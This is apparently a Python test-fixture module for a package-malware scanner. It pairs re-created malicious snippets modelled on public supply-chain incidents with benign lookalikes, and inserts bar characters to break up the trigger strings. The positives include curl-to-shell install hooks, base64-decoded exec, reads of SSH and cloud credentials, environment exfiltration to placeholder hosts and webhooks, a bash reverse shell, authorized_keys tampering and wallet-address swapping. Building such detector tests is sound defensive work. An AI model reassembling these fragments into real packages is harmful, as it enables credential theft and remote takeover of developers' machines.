"""Samples of package code, by rule: what public reports describe, written anew, and honest code that looks alike.

`|` in a text is left out when a sample is made, so that no file of ours holds what a scanner looks for; `||` is one bar.
Families: event-stream (code decoded and run), ua-parser-js and LiteLLM (programs fetched and started, `.pth`), chalk and debug (wallets
in browsers), GlassWorm (invisible code), Shai-Hulud (credentials, npm tokens, workflows), ctx (environment), dependency confusion and
torchtriton (host names by DNS), W4SP (browsers, Discord). The rules' references are the reports.
"""

from tests.content.malware.specimens import Sample, text
from tests.content.samples import letters

LONG = letters(300)
NODE, SITE = "app/node_modules/left-padder", "usr/lib/python3.12/site-packages/colourful"


def js(*lines: str, name: str = "index.js") -> Sample:
    """Make a file of an npm package."""
    return text(f"{NODE}/{name}", *lines)


def py(*lines: str, name: str = "setup.py") -> Sample:
    """Make a file of a Python package, or its `setup.py`."""
    return text(f"srv/{name}" if name == "setup.py" else f"{SITE}/{name}", *lines)


def npm(command: str) -> Sample:
    """Make a `package.json` with an install script."""
    return text(f"{NODE}/package.json", '{"name": "left-padder",', f' "scripts": {{"postinstall": "{command}"}}}}')


def names(*ours: str) -> str:
    """Write names as obfuscators make them."""
    return ";".join(f"var _0x{number:06x}={ours[0]}" for number in range(0xA1B200, 0xA1B21E))


SETUP = "from setuptools import setup"
INVISIBLE = "".join(chr(0xE0100 + number) for number in range(40))
POSITIVES = {
    "package-runs-hidden-code": (
        js("const a = 1;", "ev|al(Buf|fer.from(payload, 'base64').toString())"),
        py(SETUP, f"import base64; ex|ec(base64.b64|decode('{LONG}'))"),
        text(f"{SITE}-1.pth", f"import base64, sys; ex|ec(base64.b64|decode('{LONG}'))"),
        py("import subprocess, sys", f"subprocess.Popen([sys.executable, '-c', \"import base64; ex|ec(base64.b64|decode('{LONG}'))\"])"),
        npm("node -e \\\"ev|al(Buf|fer.from('aGVsbG8=','base64').toString())\\\""),
    ),
    "package-runs-fetched-code": (
        npm("cu|rl -s https://example.org/i.sh || sh"),
        py(SETUP, "import requests", "ex|ec(requests.get('https://example.org/x').text)"),
        npm("wg|et -q https://example.org/m -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
    ),
    "package-obfuscated": (
        js(names("1"), "while(!![]){try{break}catch(e){_0xa1b200['push'](_0xa1b200['shift']())}}"),
        js("module.exports = 1;" + " " * 400 + "global['r']=require;" + "while(!![]){}", names("2")),
        py(SETUP, "__import__('\\x6f\\x73').system('x')", f"__pyarmor__(__name__, __file__, b'{LONG[:60]}')"),
    ),
    "package-invisible-characters": (
        Sample(f"{NODE}/index.js", f"const s = `{INVISIBLE}`; run(s)\n".encode()),
        Sample("srv/setup.py", f"x = '{INVISIBLE}'\n".encode()),
        Sample(f"{NODE}/index.mjs", "const { timeout,\u3164} = req.query;\n".encode()),
    ),
    "package-reads-credentials": (
        py(
            SETUP,
            "import requests",
            "a = open('~/.aws/creden|tials').read()",
            "b = open('~/.ssh/id_|rsa').read()",
            "requests.post(u, data=a + b)",
        ),
        js("const https = require('https')", "read('~/.np|mrc'); read('~/.ssh/id_|ed25519'); read('~/.docker/conf|ig.json')"),
        js("fetch('http://169.254.169.254/latest/meta-data/i|am/')", "read('/root/.kube/con|fig'); read('~/.config/gcl|oud')"),
    ),
    "package-takes-environment": (
        py(SETUP, "import requests", "for _, v in os.env|iron.items():", "    s += v", "requests.g|et(u + s)"),
        js("const b = Object.ent|ries(process.|env).join()", "fet|ch('https://example.org', {body: b})"),
        py(SETUP, "import os, urllib.request", "urllib.request.urlopen(u, json.dum|ps(dict(os.env|iron)).encode())"),
        npm("node -e \\\"fetch('https://example.org',{method:'POST',body:JSON.string|ify(process.env)})\\\""),
        text("srv/sitecustomize.py", "import os, requests", "requests.post('https://example.org', json=dict(os.env|iron))"),
    ),
    "package-describes-host": (
        py(SETUP, "import socket, getpass", "socket.gethostby|name(getpass.getu|ser() + '.' + socket.gethost|name() + '.example.org')"),
        npm("node -e \\\"require('https').get('https://example.org/'+require('os').host|name()+process.env.US|ER);os.host|name()\\\""),
        py(SETUP, "import platform, os, urllib.request", "urllib.request.urlopen(x + platform.no|de() + os.getlo|gin())"),
    ),
    "package-reports-to-drop": (
        py(SETUP, "import os,glob,socket", "socket.gethost|byname(b[i:i+50] + '.example.org')", "open('~/.ss|h/*')"),
        npm("cu|rl -d x https://webhook.si|te/1"),
        py(SETUP, "import requests", "requests.post('https://disc|ord.com/api/webh|ooks/1/x', json={})"),
        npm("cu|rl http://45.1|37.21.9:8080/x -o /dev/null"),
    ),
    "package-reads-wallets-or-browsers": (
        py("import requests, shutil", "p = '/Local Extension Sett|ings/'", "q = '/Login Da|ta'", name="__init__.py"),
        js("const c = require('child_process')", "a = '/Local Extension Sett|ings'; b = 'exodus.wal|let'"),
        js("if (window.ether|eum) { XMLHttpRequest.proto|type.send = f }", "a = '/Login Da|ta'"),
    ),
    "package-spreads": (
        js("const c = require('child_process')", "run('npm pub|lish'); write('.github/workf|lows/discussion.yaml'); run('truffle|hog')"),
        py(SETUP, "import subprocess", "run('twine up|load')", "open('.github/workf|lows/a.yml', 'w')"),
        js("fetch(url + '/-/who|ami'); run('npm pub|lish'); open('.github/workf|lows/x.yml')", name="index.cjs"),
    ),
    "package-opens-remote-shell": (
        js("fs.append|FileSync(home + '/.ssh/authorized|_keys', key)"),
        py(SETUP, "open(home + '/.ssh/authorized|_keys', 'a').write(key)"),
        py(SETUP, "os.dup|2(s.fileno(),0); os.dup|2(s.fileno(),1)", "subprocess.call(['/bin/|sh','-i'])"),
        npm("ba|sh -i >& /dev/t|cp/example.org/4444 0>&1"),
        js("const sh = require('child_process').spa|wn('/bin/sh', []); client.pipe(sh.std|in); client.pi|pe(sh.stdin)"),
    ),
    "package-hides-process": (
        py(SETUP, "import subprocess", "subprocess.run('powershell -Window|Style Hid|den -File x')"),
        npm("cert|util -urlc|ache -f https://example.org/a.exe a.exe || node x"),
        py(SETUP, "import os", "os.system('power|shell -w hid|den x; Down|loadString(1)')"),
    ),
    "package-swaps-wallets": (
        js("window.ether|eum.request = f => { f.to = '0x" + 40 * "a" + "' }"),
        py("W = '0x" + 40 * "a" + "'", "pyper|clip.copy(W)", name="__init__.py"),
        js("const w = '0x" + 40 * "a" + "'; clip|boardy.writeSync(w)"),
    ),
}
NEAR_MISSES = {
    "package-runs-hidden-code": (
        js("const text = Buf|fer.from(payload, 'base64').toString()"),
        py(SETUP, "ex|ec(open('version.py').read())"),
        text(
            f"{SITE}-nspkg.pth",
            "import sys, types, os;has = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'])",
        ),
        text(f"{SITE}-2.pth", f"# ex|ec(base64.b64|decode('{LONG}'))", "/srv/code"),
    ),
    "package-runs-fetched-code": (
        npm("node-gyp rebuild || node scripts/build.js"),
        py(SETUP, "import requests", "archive = requests.get('https://example.org/x').content"),
        js("# cu|rl the page, then pipe it", name="README.js"),
    ),
    "package-obfuscated": (
        js("!function(e,t){var n=_0x1;return n}(0,1)" * 30, name="index.min.js"),
        py("MAGIC = b'\\x7f\\x45\\x4c\\x46\\x02\\x01\\x01'", SETUP),
        js("const table = '" + " " * 400 + "';"),
    ),
    "package-invisible-characters": (
        Sample(f"{NODE}/index.js", "const heart = '❤\ufe0f'; // emoji\n".encode()),
        Sample("srv/setup.py", "x = '👍\ufe0f👍\ufe0f👍\ufe0f'\n".encode()),
        Sample(f"{NODE}/index.mjs", "const names = '가\u3164나';\n".encode()),
    ),
    "package-reads-credentials": (
        js("const https = require('https')", "const file = join(home, '~/.np|mrc')"),
        py(SETUP, "print('keep ~/.aws/creden|tials and ~/.ssh/id_|rsa safe')"),
        py("import requests", "path = '~/.ne|trc'", name="utils.py"),
    ),
    "package-takes-environment": (
        py(SETUP, "import requests", "for k, v in os.env|iron.items():", "    print(k)"),
        py(SETUP, "import os, subprocess, requests", "subprocess.run(x, env=dict(os.env|iron, A='1'))"),
        js("const h = require('https'); spawn(x, {env: {...process.env, A: '1'}})"),
        py(SETUP, "import requests, os", "requests.get(os.environ['URL'])"),
    ),
    "package-describes-host": (
        py("import socket, getpass", "name = getpass.getu|ser() + socket.gethost|name()", name="telemetry.py"),
        js("const os = require('os'), https = require('https'); log(os.host|name(), os.user|Info())"),
        py(SETUP, "import socket", "x = socket.gethost|name()"),
    ),
    "package-reports-to-drop": (
        js("const https = require('https'); https.get('https://disc|ord.com/api/webh|ooks/' + id)"),
        npm("cu|rl http://127.0.0.1:8080/x -o /dev/null"),
        npm("echo see https://webhook.si|tes.example.org"),
    ),
    "package-reads-wallets-or-browsers": (
        js("const c = require('child_process'); const p = 'Brave|Software/Brave-Browser'"),
        py("p = '/Local Extension Sett|ings/'", "q = '/Login Da|ta'", name="names.py"),
        js("if (window.ether|eum) { connect() }"),
    ),
    "package-spreads": (
        js("const c = require('child_process'); run('npm pub|lish')"),
        py(SETUP, "import subprocess", "if sys.argv[-1] == 'publish': os.system('twine up|load dist/*')"),
        js("fetch(registry + '/-/who|ami')"),
    ),
    "package-opens-remote-shell": (
        js("fs.readFile|Sync(home + '/.ssh/authorized|_keys')"),
        py(SETUP, "os.dup|2(s.fileno(), 1)", "subprocess.call(['make'])"),
        npm("ba|sh -i scripts/install.sh"),
        js("const p = require('child_process').spa|wn('git', []); file.pi|pe(p.stdin)"),
    ),
    "package-hides-process": (
        py(SETUP, "import subprocess", "subprocess.run('powershell -File build.ps1')"),
        npm("cert|util -hashfile a.exe || node x"),
        py(SETUP, "flags = subprocess.CREATE_NO_WIN|DOW"),
    ),
    "package-swaps-wallets": (
        js("window.ether|eum.request({method: 'eth_accounts'}); const t = '0x" + 40 * "a" + "'"),
        py("pyper|clip.copy(text)", name="__init__.py"),
        js("const token = '0x" + 40 * "a" + "'"),
    ),
}
